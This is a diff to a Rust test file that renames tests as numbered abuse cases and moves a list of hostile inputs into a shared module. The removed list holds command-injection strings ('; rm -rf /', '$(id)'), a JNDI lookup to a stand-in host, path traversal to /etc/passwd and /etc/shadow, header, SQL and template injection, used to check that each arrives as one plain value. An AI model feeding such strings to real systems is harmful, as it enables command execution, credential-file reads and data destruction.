@@ -13,6 +13,7 @@ use rye_core::adapter::{Ending, Request};
 use rye_core::error::ErrorKind;
 use rye_core::id::IdempotencyKey;
 use rye_core::value::{Duration, Value};
+use rye_tests::hostile;
 use serde_json::Value as Json;
 
 use site::{Site, request, ticket, ticket_id};
@@ -33,8 +34,9 @@ fn every_ending_that_a_program_says_is_the_ending() {
     assert_eq!(site.ask("did not send"), Ending::NotSent("the desk is closed".into()));
 }
 
+/// Abuse case 20.
 #[test]
-fn a_program_that_ran_and_did_not_answer_leaves_an_unknown_end() {
+fn lying_or_hanging_adapter() {
     for behaviour in [
         "dies unasked",
         "leaves the question",
@@ -139,30 +141,12 @@ fn the_same_effect_has_the_same_key_and_an_undo_names_its_act() {
     assert_eq!(member(0, "timeout_micros"), Json::from(30_000_000));
 }
 
-/// What an alert may hold.
-const HOSTILE: &[&str] = &[
-    "$(id)",
-    "; rm -rf /",
-    "`reboot`",
-    "{{7*7}}",
-    "${jndi:ldap://evil.example/a}",
-    "-rf",
-    "--config=/etc/shadow",
-    "a\r\nX-Evil: 1\r\n\r\n{}",
-    "\0\0\0\u{2}{}",
-    "\u{1b}]0;owned\u{7}",
-    "\u{202e}gpj.exe",
-    "../../../etc/passwd",
-    "\"},\"key\":\"0",
-    "' OR '1'='1",
-    "\u{fffd}\u{feff}\u{2028}",
-];
-
+/// Abuse case 12.
 #[test]
-fn hostile_texts_arrive_as_one_value_each() {
+fn field_injection() {
     let site = Site::new();
     let long = "A".repeat(4096);
-    for text in HOSTILE.iter().copied().chain([long.as_str()]) {
+    for text in hostile::TEXTS.iter().copied().chain([long.as_str()]) {
         let ending = site.ask_with("records", &request(text));
         assert_eq!(ending, Ending::Done(ticket("T-1", text)), "{text:?}");
         let record = site.record();
